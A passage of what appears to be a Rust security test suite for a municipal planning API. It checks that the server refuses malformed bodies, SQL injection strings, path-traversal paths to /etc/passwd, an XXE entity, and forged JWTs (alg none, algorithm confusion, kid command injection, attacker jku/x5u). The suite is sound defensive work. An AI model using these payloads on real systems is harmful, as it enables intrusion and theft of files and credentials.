    table.check(
        "the export imports",
        imported.status == 200,
        describe(&imported),
    );
    let original = app.get("/api/v1/export?format=json", &admin).await.json();
    let copied = app
        .get("/api/v1/export?format=json", &copy_admin)
        .await
        .json();
    let texts = |rows: &Value| -> Vec<String> {
        let mut found: Vec<String> = rows
            .as_array()
            .expect("rows")
            .iter()
            .flat_map(|row| {
                ["title", "responsible", "description", "name"]
                    .iter()
                    .filter_map(|f| row[*f].as_str().map(str::to_string))
                    .collect::<Vec<_>>()
            })
            .collect();
        found.sort();
        found
    };
    for text in &stored {
        let count = |rows: &Value| texts(rows).iter().filter(|t| *t == text).count();
        table.check(
            format!("{text:?} round-trips"),
            count(&original) > 0 && count(&copied) == count(&original),
            "lost or changed",
        );
    }
    table.check(
        "every text round-trips",
        texts(&original) == texts(&copied),
        "the copies differ",
    );
    let second = app.get("/api/v1/export?format=csv", &copy_admin).await;
    table.check(
        "the copy exports as the original did",
        second.body == csv_text.body,
        "the CSV files differ",
    );
    let measurement = copied
        .as_array()
        .expect("rows")
        .iter()
        .find(|r| r["type"] == "measurement")
        .cloned()
        .unwrap_or_default();
    table.check(
        "-5 comes back as the number -5",
        measurement["value"] == json!(-5.0) || measurement["value"] == json!(-5),
        &measurement,
    );
    table.finish();
}

// ---------------------------------------------------------------------------------------
// 4. Oversized and malformed input.

async fn oversized_and_malformed_input(app: TestApp) {
    let (_, mine) = two_worlds(&app).await;
    let admin = mine.admin.clone();
    let unit = format!("/api/v1/units/{}", mine.id("board"));
    let mut table = Table::new(&app, "oversized and malformed");
    let before = fingerprint(&app).await;

    let nest = |n: usize| format!("{}{}", "[".repeat(n), "]".repeat(n)).into_bytes();
    let nest_objects = |n: usize| format!("{}1{}", "{\"a\":".repeat(n), "}".repeat(n)).into_bytes();
    let many_keys = {
        let fields: Vec<String> = (0..4000).map(|i| format!("\"k{i}\": {i}")).collect();
        format!(
            "{{\"kind\": \"board\", \"name\": \"X\", {}}}",
            fields.join(", ")
        )
        .into_bytes()
    };
    let utf8_in_string = [
        &b"{\"kind\": \"board\", \"name\": \""[..],
        &[0xc3, 0x28, 0xff],
        &b"\"}"[..],
    ]
    .concat();
    type Attack = (
        &'static str,
        Method,
        String,
        Option<Vec<u8>>,
        Vec<(&'static str, String)>,
        &'static [u16],
    );
    let json_ct = || vec![("Content-Type", "application/json".to_string())];
    let attacks: Vec<Attack> = vec![
        ("body over the limit", Method::POST, "/api/v1/units".into(), Some(vec![b' '; 65 * 1024]), json_ct(), &[413]),
        ("body over the limit, PATCH", Method::PATCH, unit.clone(), Some(vec![b' '; 65 * 1024]), json_ct(), &[413]),
        ("body over the limit with an Idempotency-Key", Method::POST, "/api/v1/units".into(), Some(vec![b' '; 65 * 1024]),
            vec![("Content-Type", "application/json".into()), ("Idempotency-Key", "big-1".into())], &[413]),
        ("100 000 nested arrays", Method::POST, "/api/v1/units".into(), Some(nest(100_000)), json_ct(), &[413]),
        ("30 000 nested arrays under the limit", Method::POST, "/api/v1/units".into(), Some(nest(30_000)), json_ct(), &[400, 422]),
        // The first unknown field ends the reading (422) before the nesting is reached.
        ("10 000 nested objects", Method::POST, "/api/v1/goals".into(), Some(nest_objects(10_000)), json_ct(), &[400, 422]),
        ("10 000 nested objects in a field", Method::POST, "/api/v1/units".into(),
            Some(format!("{{\"kind\": \"board\", \"name\": {}\"x\"{}}}", "{\"a\":".repeat(10_000), "}".repeat(10_000)).into_bytes()), json_ct(), &[400, 422]),
        ("100 000 nested arrays as an import", Method::POST, "/api/v1/import".into(), Some(nest(100_000)), json_ct(), &[400]),
        ("100 000 nested objects as an import", Method::POST, "/api/v1/import".into(), Some(nest_objects(100_000)), json_ct(), &[400]),
        ("a nested NDJSON row", Method::POST, "/api/v1/import".into(), Some(nest(100_000)),
            vec![("Content-Type", "application/x-ndjson".into())], &[400, 422]),
        ("a nested JSON cell in CSV", Method::POST, "/api/v1/import?type=indicator".into(),
            Some(format!("name;unit_of_measure;direction;targets\nX;%;higher_is_better;{}\n", String::from_utf8(nest(50_000)).unwrap_or_default()).into_bytes()),
            vec![("Content-Type", "text/csv".into())], &[422]),
        ("an unclosed array", Method::POST, "/api/v1/units".into(), Some("[".repeat(50_000).into_bytes()), json_ct(), &[400]),
        ("4 000 unknown fields", Method::POST, "/api/v1/units".into(), Some(many_keys), json_ct(), &[422]),
        ("a name of 60 000 characters", Method::POST, "/api/v1/units".into(),
            Some(json!({"kind": "board", "name": "n".repeat(60_000)}).to_string().into_bytes()), json_ct(), &[422]),
        ("a description of 30 000 characters", Method::POST, "/api/v1/activities".into(),
            Some(json!({"team_id": mine.id("team"), "title": "X", "description": "d".repeat(30_000)}).to_string().into_bytes()), json_ct(), &[422]),
        ("a number past f64", Method::POST, "/api/v1/perspectives".into(),
            Some(format!("{{\"plan_period_id\": \"{}\", \"name\": \"X\", \"focus\": \"external\", \"position\": 1e400}}", mine.id("plan_period")).into_bytes()), json_ct(), &[400, 422]),
        ("a number past i64", Method::POST, "/api/v1/perspectives".into(),
            Some(format!("{{\"plan_period_id\": \"{}\", \"name\": \"X\", \"focus\": \"external\", \"position\": 99999999999999999999}}", mine.id("plan_period")).into_bytes()), json_ct(), &[422]),
        ("a duplicate field", Method::POST, "/api/v1/units".into(), Some(br#"{"kind": "board", "name": "A", "name": "B"}"#.to_vec()), json_ct(), &[422]),
        ("an empty body", Method::POST, "/api/v1/units".into(), Some(Vec::new()), json_ct(), &[400]),
        ("a byte order mark", Method::POST, "/api/v1/units".into(), Some([&b"\xef\xbb\xbf"[..], br#"{"kind": "board", "name": "A"}"#].concat()), json_ct(), &[400]),
        ("invalid UTF-8 body", Method::POST, "/api/v1/units".into(), Some(vec![0xff, 0xfe, 0xfd, 0x80]), json_ct(), &[400]),
        ("invalid UTF-8 in a string", Method::POST, "/api/v1/units".into(), Some(utf8_in_string), json_ct(), &[400]),
        ("a lone surrogate", Method::POST, "/api/v1/units".into(), Some(br#"{"kind": "board", "name": "\ud800"}"#.to_vec()), json_ct(), &[400]),
        ("a NUL in a name", Method::POST, "/api/v1/units".into(), Some(br#"{"kind": "board", "name": "Om\u0000sorg"}"#.to_vec()), json_ct(), &[400, 422]),
        ("NUL bytes", Method::POST, "/api/v1/units".into(), Some(vec![0; 64]), json_ct(), &[400]),
        ("invalid UTF-8 in the query", Method::GET, "/api/v1/activities?responsible=%ff%fe".into(), None, vec![], &[400]),
        ("a NUL in the query", Method::GET, "/api/v1/activities?responsible=a%00b".into(), None, vec![], &[400]),
        ("invalid UTF-8 in a path id", Method::GET, "/api/v1/units/%ff%fe".into(), None, vec![], &[400]),
        ("invalid UTF-8 in a municipality code", Method::GET, "/api/v1/public/%ff%fe/goals".into(), None, vec![], &[400]),
        ("invalid UTF-8 in a path, PATCH", Method::PATCH, "/api/v1/goals/%c3%28".into(), Some(b"{}".to_vec()), json_ct(), &[400]),
        ("a URI of 9 000 bytes", Method::GET, format!("/api/v1/units?cursor={}", "a".repeat(9000)), None, vec![], &[414]),
        ("a path of 20 000 bytes", Method::GET, format!("/api/v1/{}", "a/".repeat(10_000)), None, vec![], &[414]),
        ("an Authorization header of 100 000 bytes", Method::GET, "/api/v1/units".into(), None,
            vec![("Authorization", format!("Bearer {}", "a".repeat(100_000)))], &[401]),
        ("an Idempotency-Key of 10 000 bytes", Method::POST, "/api/v1/units".into(), Some(br#"{"kind": "board", "name": "A"}"#.to_vec()),
            vec![("Content-Type", "application/json".into()), ("Idempotency-Key", "k".repeat(10_000))], &[400]),
        ("a form body", Method::POST, "/api/v1/units".into(), Some(b"kind=board&name=A".to_vec()),
            vec![("Content-Type", "application/x-www-form-urlencoded".into())], &[415]),
        ("multipart", Method::POST, "/api/v1/units".into(), Some(b"--x\r\n\r\n--x--".to_vec()),
            vec![("Content-Type", "multipart/form-data; boundary=x".into())], &[415]),
        ("XML", Method::POST, "/api/v1/import".into(), Some(b"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>".to_vec()),
            vec![("Content-Type", "application/xml".into())], &[415]),
        ("TRACE", Method::TRACE, "/api/v1/units".into(), None, vec![], &[405, 404]),
        ("PUT on a record", Method::PUT, unit.clone(), Some(b"{}".to_vec()), json_ct(), &[405]),
        ("a made-up method", Method::from_bytes(b"PROPFIND").expect("a method"), "/api/v1/units".into(), None, vec![], &[405, 404]),
        ("a limit of 10^30", Method::GET, "/api/v1/units?limit=1000000000000000000000000000000".into(), None, vec![], &[400]),
        ("a negative limit", Method::GET, "/api/v1/units?limit=-1".into(), None, vec![], &[400]),
        ("a cursor that is not ours", Method::GET, "/api/v1/units?cursor=Jyk7IERST1AgVEFCTEUgdW5pdHM7LS0".into(), None, vec![], &[400]),
        ("a parameter given twice", Method::GET, "/api/v1/units?limit=1&limit=2".into(), None, vec![], &[400]),
    ];
    let count = attacks.len();
    for (name, method, path, body, headers, statuses) in attacks {
        let mut req = test::TestRequest::default()
            .method(method)
            .uri(&path)
            .insert_header(("Authorization", format!("Bearer {admin}")));
        for (header, value) in &headers {
            req = req.insert_header((*header, value.as_str()));
        }
        if let Some(body) = body {
            req = req.set_payload(body);
        }
        let response = app.call(req.to_request()).await;
        table.refused(name, &response, statuses);
    }
    // Bytes that are not text in headers.
    for (name, header, statuses) in [
        ("Authorization", "authorization", &[401][..]),
        ("If-Match", "if-match", &[400][..]),
        ("Idempotency-Key", "idempotency-key", &[400][..]),
    ] {
        let req = test::TestRequest::post()
            .uri("/api/v1/units")
            .insert_header(("Authorization", format!("Bearer {admin}")))
            .insert_header(("Content-Type", "application/json"))
            .insert_header((
                HeaderName::from_static(header),
                HeaderValue::from_bytes(b"\xff\xfe\x80").expect("obs-text is a header value"),
            ))
            .set_payload(json!({"kind": "board", "name": "Bytes"}).to_string());
        let req = if header == "if-match" {
            test::TestRequest::patch()
                .uri(&unit)
                .insert_header(("Authorization", format!("Bearer {admin}")))
                .insert_header(("Content-Type", "application/json"))
                .insert_header((
                    HeaderName::from_static(header),
                    HeaderValue::from_bytes(b"\xff\xfe\x80").expect("obs-text"),
                ))
                .set_payload(json!({"name": "Bytes"}).to_string())
        } else {
            req
        };
        let response = app.call(req.to_request()).await;
        table.refused(format!("{name} that is not text"), &response, statuses);
    }
    table.check(
        "nothing was written",
        fingerprint(&app).await == before,
        "the database changed",
    );
    // A method override header is not honoured: the POST archives, it does not delete.
    let contact = format!("/api/v1/contacts/{}", mine.id("contact"));
    let response = app
        .send(
            Method::POST,
            &format!("{contact}/archive"),
            Some(&admin),
            None,
            &[("X-HTTP-Method-Override", "DELETE")],
        )
        .await;
    table.attack(
        "X-HTTP-Method-Override is ignored",
        response.status == 200 && response.json()["archived_at"].is_string(),
        describe(&response),
    );
    let response = app.get(&contact, &admin).await;
    table.check(
        "the record is still there",
        response.status == 200,
        describe(&response),
    );
    // Still answering and still writing.
    let response = app
        .post(
            "/api/v1/units",
            &admin,
            json!({"kind": "board", "name": "Kulturnämnden"}),
        )
        .await;
    table.check(
        "the service still writes",
        response.status == 201,
        describe(&response),
    );
    eprintln!("({count} table rows + 3 header attacks + 1 override)");
    table.finish();
}

// ---------------------------------------------------------------------------------------
// 5. SQL metacharacters in every filter and in text fields.

const SQL: [&str; 10] = [
    "' OR 1=1 --",
    "' OR '1'='1",
    "%",
    "_",
    "\\",
    "%' OR '1'='1' --",
    "\"; DROP TABLE units; --",
    "1; SELECT pg_sleep(5)",
    "*",
    "') UNION SELECT id, name FROM organizations --",
];

async fn sql_metacharacters_in_every_filter(app: TestApp) {
    let (victim, mine) = two_worlds(&app).await;
    let mut table = Table::new(&app, "SQL metacharacters in filters");
    let before = fingerprint(&app).await;
    let spec = spec();
    for (n, (method, template, operation)) in operations(&spec).into_iter().enumerate() {
        if method != Method::GET {
            continue;
        }
        let params: Vec<String> = operation["parameters"]
            .as_array()
            .map(|ps| {
                ps.iter()
                    .filter(|p| p["in"] == "query")
                    .filter_map(|p| p["name"].as_str().map(str::to_string))
                    .collect()
            })
            .unwrap_or_default();
        if params.is_empty() {
            continue;
        }
        // A subject of its own per operation, so that the table never meets the rate limit.
        let token = token_as(&mine.org, &["admin"], &format!("sql-{n}"));
        let path = fill(&template, &mine, &mine.code);
        for param in &params {
            for value in SQL {
                let url = format!("{path}?{param}={}", pct(value));
                let response = app.get(&url, &token).await;
                let name = format!("GET {template}?{param}={value}");
                match response.status {
                    200 => {
                        // A filter that takes the text matches nothing: no record has it.
                        let body = response.json();
                        let items = body["items"].as_array().map_or(0, Vec::len);
                        table.attack(
                            name,
                            items == 0 || !body["items"].is_array(),
                            format!("{items} items"),
                        );
                    }
                    _ => table.refused(name, &response, &[400]),
                }
            }
        }
    }
    // Each organization's ids as filters in the other's lists: nothing of the victim's.
    table.check(
        "nothing was written",
        fingerprint(&app).await == before,
        "the database changed",
    );
    let _ = victim;
    table.finish();
}

async fn sql_metacharacters_in_text_are_stored_verbatim(app: TestApp) {
    let (_, mine) = two_worlds(&app).await;
    let admin = mine.admin.clone();
    let mut table = Table::new(&app, "SQL metacharacters in text");
    let mut created = Vec::new();
    for (n, text) in SQL.iter().enumerate() {
        let response = app
            .post(
                "/api/v1/activities",
                &admin,
                json!({"team_id": mine.id("team"), "goal_id": mine.id("goal"), "title": text,
                       "description": text, "responsible": text, "external_id": format!("{text}-{n}")}),
            )
            .await;
        table.check(
            format!("an activity titled {text:?} is created"),
            response.status == 201,
            describe(&response),
        );
        if response.status != 201 {
            continue;
        }
        let id = response.id();
        let got = app
            .get(&format!("/api/v1/activities/{id}"), &admin)
            .await
            .json();
        table.attack(
            format!("{text:?} is stored verbatim"),
            got["title"] == *text && got["description"] == *text && got["responsible"] == *text,
            &got,
        );
        let unit = app
            .post(
                "/api/v1/units",
                &admin,
                json!({"kind": "board", "name": text, "short_code": format!("S{n}")}),
            )
            .await;
        table.attack(
            format!("a unit named {text:?}"),
            unit.status == 201 && unit.json()["name"] == *text,
            describe(&unit),
        );
        created.push((id, *text));
    }
    // A filter on one of them finds exactly that one, whatever its characters.
    for (id, text) in &created {
        let page = app
            .get(
                &format!("/api/v1/activities?responsible={}", pct(text)),
                &admin,
            )
            .await
            .json();
        let found: Vec<&str> = page["items"]
            .as_array()
            .map(|items| items.iter().filter_map(|i| i["id"].as_str()).collect())
            .unwrap_or_default();
        table.attack(
            format!("responsible={text:?} finds exactly its activity"),
            found == vec![id.as_str()],
            format!("{found:?}"),
        );
    }
    // The tables are all still there.
    let units = app.get("/api/v1/units?limit=500", &admin).await;
    table.check(
        "units can still be listed",
        units.status == 200,
        describe(&units),
    );
    let goals = app.get("/api/v1/goals", &admin).await;
    table.check(
        "goals can still be listed",
        goals.status == 200,
        describe(&goals),
    );
    table.finish();
}

// ---------------------------------------------------------------------------------------
// 6. Path traversal.

async fn path_traversal_in_every_path_parameter(app: TestApp) {
    let (_, mine) = two_worlds(&app).await;
    let admin = mine.admin.clone();
    let mut table = Table::new(&app, "path traversal");
    let before = fingerprint(&app).await;
    let team = mine.id("team").to_string();
    let mut attacks: Vec<(Method, String)> = vec![
        (Method::GET, "/docs/../Cargo.toml".into()),
        (Method::GET, "/docs/../../../../../../etc/passwd".into()),
        (Method::GET, "/docs/..%2F..%2F..%2F..%2Fetc%2Fpasswd".into()),
        (Method::GET, "/docs/%2e%2e/%2e%2e/%2e%2e/etc/passwd".into()),
        (
            Method::GET,
            "/docs/%252e%252e%252f%252e%252e%252fetc%252fpasswd".into(),
        ),
        (Method::GET, "/docs/....//....//....//etc/passwd".into()),
        (Method::GET, "/docs/..%5C..%5C..%5CCargo.toml".into()),
        (
            Method::GET,
            "/docs/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd".into(),
        ),
        (Method::GET, "/docs//etc/passwd".into()),
        (Method::GET, "/docs/file:///etc/passwd".into()),
        (
            Method::GET,
            "/api/v1/openapi.json/../../../../etc/passwd".into(),
        ),
        (Method::GET, "/health/../../../../etc/passwd".into()),
        (
            Method::GET,
            "/api/v1/public/..%2F..%2F..%2Fetc%2Fpasswd".into(),
        ),
        (
            Method::GET,
            "/api/v1/public/..%2F..%2F..%2Fetc%2Fpasswd/goals".into(),
        ),
        (
            Method::GET,
            "/api/v1/public/../../../etc/passwd/goals".into(),
        ),
        (
            Method::GET,
            format!("/api/v1/public/{}%2F..%2F..%2Fetc/goals", mine.code),
        ),
        (Method::GET, "/api/v1/public/%2e%2e/goal-tree".into()),
        (Method::GET, "/api/v1/public/0683%00.json/goals".into()),
        (
            Method::GET,
            "/api/v1/export?type=../../../etc/passwd".into(),
        ),
        (
            Method::GET,
            "/api/v1/export?format=../../../etc/passwd".into(),
        ),
        (
            Method::GET,
            format!("/api/v1/units/{team}/activity-plan?format=..%2F..%2Fetc%2Fpasswd"),
        ),
        (
            Method::POST,
            "/api/v1/import?type=../../../etc/passwd".into(),
        ),
    ];
    // Every `{id}` of the spec, given a path instead.
    for (method, template, _) in operations(&spec()) {
        if !template.contains("{id}") {
            continue;
        }
        for traversal in [
            "..%2F..%2F..%2Fetc%2Fpasswd",
            "%2e%2e",
            "..",
            "....%2F%2F",
            "%2Fetc%2Fpasswd",
        ] {
            let path = fill(&template, &mine, &mine.code);
            let id_kind = path.clone();
            let victim_id = mine
                .ids
                .values()
                .find(|id| id_kind.contains(id.as_str()))
                .cloned()
                .unwrap_or_default();
            attacks.push((method.clone(), path.replacen(&victim_id, traversal, 1)));
        }
    }
    for (method, path) in attacks {
        let response = app
            .send(
                method.clone(),
                &path,
                Some(&admin),
                Some(b"{}".to_vec()),
                &[],
            )
            .await;
        let leaked = ["root:", "[package]", "DATABASE_URL"]
            .iter()
            .any(|s| response.text().contains(s));
        let name = format!("{method} {path}");
        if leaked {
            table.attack(name, false, "a file leaked");
        } else {
            table.refused(name, &response, &[400, 404, 405]);
        }
    }
    table.check(
        "nothing was written",
        fingerprint(&app).await == before,
        "the database changed",
    );
    table.finish();
}

// ---------------------------------------------------------------------------------------
// 7. JWT attacks (RFC 8725).

const ISSUER: &str = "https://login.kommun.example/realms/personal";
const AUDIENCE: &str = "malstyrning";

fn ec_key_pair() -> (String, String, Value) {
    let bytes = [
        uuid::Uuid::new_v4().into_bytes(),
        uuid::Uuid::new_v4().into_bytes(),
    ]
    .concat();
    let secret = p256::SecretKey::from_slice(&bytes).expect("a key");
    let private = secret
        .to_pkcs8_pem(LineEnding::LF)
        .expect("PEM")
        .to_string();
    let public = secret
        .public_key()
        .to_public_key_pem(LineEnding::LF)
        .expect("PEM");
    let jwk: Value = serde_json::from_str(&secret.public_key().to_jwk_string()).expect("a JWK");
    (private, public, jwk)
}

/// A token of any header and claims, HMAC-signed with `secret`.
fn hs(alg: Algorithm, header: Value, claims: &Value, secret: &[u8]) -> String {
    let mut h = Header::new(alg);
    let extra = header.as_object().cloned().unwrap_or_default();
    if let Some(kid) = extra.get("kid").and_then(Value::as_str) {
        h.kid = Some(kid.to_string());
    }
    if let Some(jku) = extra.get("jku").and_then(Value::as_str) {
        h.jku = Some(jku.to_string());
    }
    if let Some(x5u) = extra.get("x5u").and_then(Value::as_str) {
        h.x5u = Some(x5u.to_string());
    }
    if let Some(crit) = extra.get("crit") {
        h.crit = serde_json::from_value(crit.clone()).ok();
    }
    encode(&h, claims, &EncodingKey::from_secret(secret)).expect("a token")
}

fn es(header: Header, claims: &Value, private_pem: &str) -> String {
    encode(
        &header,
        claims,
        &EncodingKey::from_ec_pem(private_pem.as_bytes()).expect("an EC key"),
    )
    .expect("a token")
}

/// A token put together by hand: any header, any payload, any signature.
fn raw_token(header: &str, payload: &str, signature: &[u8]) -> String {
    format!(
        "{}.{}.{}",
        b64(header.as_bytes()),
        b64(payload.as_bytes()),
        b64(signature)
    )
}

async fn jwt_attacks_are_refused(app: TestApp) {
    let (private, public, jwk) = ec_key_pair();
    let (attacker_private, _, attacker_jwk) = ec_key_pair();
    let verifier = Verifier::empty()
        .with_secret(crate::common::SECRET)
        .with_public_key_pem(public.as_bytes())
        .expect("a PEM key")
        .with_issuer(Some(ISSUER.into()))
        .with_audience(Some(AUDIENCE.into()))
        .with_leeway(5);
    let app = app.with_verifier(verifier).await;
    let mut table = Table::new(&app, "JWT");
    let now = chrono::Utc::now().timestamp();
    let good = json!({"sub": "handlaggare-17", "org": app.org, "roles": ["admin"], "iss": ISSUER, "aud": AUDIENCE, "iat": now, "exp": now + 300});
    let with = |changes: Value| {
        let mut c = good.clone();
        for (k, v) in changes.as_object().expect("an object") {
            if v.is_null() {
                c.as_object_mut().expect("claims").remove(k);
            } else {
                c[k] = v.clone();
            }
        }
        c
    };
    let secret = crate::common::SECRET.as_bytes();
    let es_header = || Header::new(Algorithm::ES256);

    // The keys accept the good tokens: each attack differs from one of these in one way.
    let controls = [
        (
            "HS256 with the shared secret",
            hs(Algorithm::HS256, json!({}), &good, secret),
        ),
        (
            "ES256 with the configured key",
            es(es_header(), &good, &private),
        ),
    ];
    for (name, token) in &controls {
        let response = app.get("/api/v1/units", token).await;
        assert_eq!(response.status, 200, "control {name}: {}", response.text());
    }
    let good_hs = controls[0].1.clone();
    let parts: Vec<&str> = good_hs.split('.').collect();
    let (head, body, sig) = (parts[0], parts[1], parts[2]);
    let payload = good.to_string();

    // A listener that jku/x5u point at: nothing may connect to it.
    let bait = TcpListener::bind("127.0.0.1:0").expect("a port");
    bait.set_nonblocking(true).expect("non-blocking");
    let bait_url = format!(
        "http://{}/jwks.json",
        bait.local_addr().expect("an address")
    );
    let mut embedded = es_header();
    embedded.jwk = serde_json::from_value(attacker_jwk.clone()).ok();
    let mut fetched = es_header();
    fetched.jku = Some(bait_url.clone());
    fetched.kid = Some("attacker".into());
    let mut x5u = es_header();
    x5u.x5u = Some(bait_url.clone());
    let mut signed_crit = es_header();
    signed_crit.crit = Some(vec!["exp".into()]);
    let _ = jwk;

    let attacks: Vec<(String, String)> = vec![
        (
            "alg none, no signature".into(),
            raw_token(r#"{"alg":"none","typ":"JWT"}"#, &payload, b""),
        ),
        (
            "alg none, with the real signature".into(),
            format!("{}.{body}.{sig}", b64(br#"{"alg":"none","typ":"JWT"}"#)),
        ),
        (
            "alg None".into(),
            raw_token(r#"{"alg":"None"}"#, &payload, b""),
        ),
        (
            "alg NONE".into(),
            raw_token(r#"{"alg":"NONE"}"#, &payload, b""),
        ),
        (
            "alg nOnE".into(),
            raw_token(r#"{"alg":"nOnE"}"#, &payload, b""),
        ),
        (
            "alg none, no signature part".into(),
            format!("{}.{}", b64(br#"{"alg":"none"}"#), b64(payload.as_bytes())),
        ),
        (
            "no alg".into(),
            raw_token(r#"{"typ":"JWT"}"#, &payload, b"x"),
        ),
        (
            "alg confusion: HS256 with the public key PEM".into(),
            hs(Algorithm::HS256, json!({}), &good, public.as_bytes()),
        ),
        (
            "alg confusion: HS256 with the public key PEM, trimmed".into(),
            hs(Algorithm::HS256, json!({}), &good, public.trim().as_bytes()),
        ),
        (
            "alg confusion: HS384 with the public key PEM".into(),
            hs(Algorithm::HS384, json!({}), &good, public.as_bytes()),
        ),
        (
            "alg confusion: HS512 with the public key PEM".into(),
            hs(Algorithm::HS512, json!({}), &good, public.as_bytes()),
        ),
        (
            "HS384 with the shared secret".into(),
            hs(Algorithm::HS384, json!({}), &good, secret),
        ),
        (
            "wrong signature".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &good,
                b"another-secret-that-is-long-enough-0123",
            ),
        ),
        (
            "signature of another token".into(),
            format!(
                "{head}.{}.{sig}",
                b64(with(json!({"roles": ["admin", "council"]}))
                    .to_string()
                    .as_bytes())
            ),
        ),
        (
            "a flipped signature byte".into(),
            format!(
                "{head}.{body}.{}{}",
                &sig[..sig.len() - 2],
                if sig.ends_with('A') { "BB" } else { "AA" }
            ),
        ),
        ("stripped signature".into(), format!("{head}.{body}.")),
        ("no signature part".into(), format!("{head}.{body}")),
        (
            "ES256 signed by another key".into(),
            es(es_header(), &good, &attacker_private),
        ),
        (
            "ES256 with the attacker's key embedded (jwk)".into(),
            es(embedded, &good, &attacker_private),
        ),
        (
            "ES256 with a jku to the attacker's keys".into(),
            es(fetched, &good, &attacker_private),
        ),
        (
            "ES256 with an x5u to the attacker's certificate".into(),
            es(x5u, &good, &attacker_private),
        ),
        (
            "HS256 with a jku".into(),
            hs(
                Algorithm::HS256,
                json!({"jku": bait_url}),
                &good,
                b"attacker-secret-0123456789abcdef0123",
            ),
        ),
        (
            "ES256 with the attacker's key under kid of a file".into(),
            {
                let mut h = es_header();
                h.kid = Some("../../../../../../dev/null".into());
                es(h, &good, &attacker_private)
            },
        ),
        (
            "kid path traversal, HS256 with an empty secret".into(),
            hs(
                Algorithm::HS256,
                json!({"kid": "../../../../../../dev/null"}),
                &good,
                b"",
            ),
        ),
        (
            "kid SQL injection".into(),
            hs(
                Algorithm::HS256,
                json!({"kid": "x' UNION SELECT 'secret' --"}),
                &good,
                b"secret",
            ),
        ),
        (
            "kid command injection".into(),
            hs(
                Algorithm::HS256,
                json!({"kid": "key|/usr/bin/id"}),
                &good,
                b"",
            ),
        ),
        (
            "kid of 10 000 characters".into(),
            hs(
                Algorithm::HS256,
                json!({"kid": "k".repeat(10_000)}),
                &good,
                b"x",
            ),
        ),
        (
            "crit with an unknown extension".into(),
            hs(
                Algorithm::HS256,
                json!({"crit": ["http://evil.example/ext"]}),
                &good,
                secret,
            ),
        ),
        (
            "crit naming exp, correctly signed".into(),
            es(signed_crit, &good, &private),
        ),
        (
            "crit empty".into(),
            hs(Algorithm::HS256, json!({"crit": []}), &good, secret),
        ),
        (
            "a huge token, correctly signed".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"pad": "p".repeat(40_000)})),
                secret,
            ),
        ),
        (
            "a huge header".into(),
            raw_token(
                &format!("{{\"alg\":\"HS256\",\"x\":\"{}\"}}", "h".repeat(30_000)),
                &payload,
                b"x",
            ),
        ),
        (
            "a deeply nested header".into(),
            raw_token(
                &format!(
                    "{{\"alg\":\"HS256\",\"x\":{}1{}}}",
                    "[".repeat(10_000),
                    "]".repeat(10_000)
                ),
                &payload,
                b"x",
            ),
        ),
        ("deeply nested claims, correctly signed".into(), {
            let nested = format!("{}1{}", "[".repeat(5_000), "]".repeat(5_000));
            let claims = format!("{{\"sub\":\"s\",\"org\":\"{}\",\"exp\":{},\"iss\":\"{ISSUER}\",\"aud\":\"{AUDIENCE}\",\"x\":{nested}}}", app.org, now + 300);
            let signing_input = format!("{head}.{}", b64(claims.as_bytes()));
            let key = hmac_sha256(secret, signing_input.as_bytes());
            format!("{signing_input}.{}", b64(&key))
        }),
        (
            "expired".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"exp": now - 3600})),
                secret,
            ),
        ),
        (
            "expired just past the leeway".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"exp": now - 10})),
                secret,
            ),
        ),
        (
            "nbf in the future".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"nbf": now + 3600})),
                secret,
            ),
        ),
        (
            "missing exp".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"exp": null})),
                secret,
            ),
        ),
        (
            "exp as text".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"exp": "4000000000"})),
                secret,
            ),
        ),
        (
            "exp negative".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"exp": -1})),
                secret,
            ),
        ),
        (
            "exp past u64".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"exp": 1e30})),
                secret,
            ),
        ),
        (
            "exp as a list".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"exp": [now + 300]})),
                secret,
            ),
        ),
        (
            "nbf as text".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"nbf": "now"})),
                secret,
            ),
        ),
        (
            "wrong issuer".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"iss": "https://evil.example"})),
                secret,
            ),
        ),
        (
            "missing issuer".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"iss": null})),
                secret,
            ),
        ),
        (
            "issuer as a number".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"iss": 1})),
                secret,
            ),
        ),
        (
            "wrong audience".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"aud": "another-service"})),
                secret,
            ),
        ),
        (
            "audience list without ours".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"aud": ["a", "b"]})),
                secret,
            ),
        ),
        (
            "missing audience".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"aud": null})),
                secret,
            ),
        ),
        (
            "missing subject".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"sub": null})),
                secret,
            ),
        ),
        (
            "subject as a number".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"sub": 17})),
                secret,
            ),
        ),
        (
            "subject as an object".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"sub": {"id": 1}})),
                secret,
            ),
        ),
        (
            "org missing".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"org": null})),
                secret,
            ),
        ),
        (
            "org as a number".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"org": 683})),
                secret,
            ),
        ),
        (
            "org as a list".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"org": [app.org]})),
                secret,
            ),
        ),
        (
            "org not an id".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"org": "' OR 1=1 --"})),
                secret,
            ),
        ),
        (
            "roles as an object".into(),
            hs(
                Algorithm::HS256,
                json!({}),
                &with(json!({"roles": {"admin": true}})),
                secret,
            ),
        ),
        (
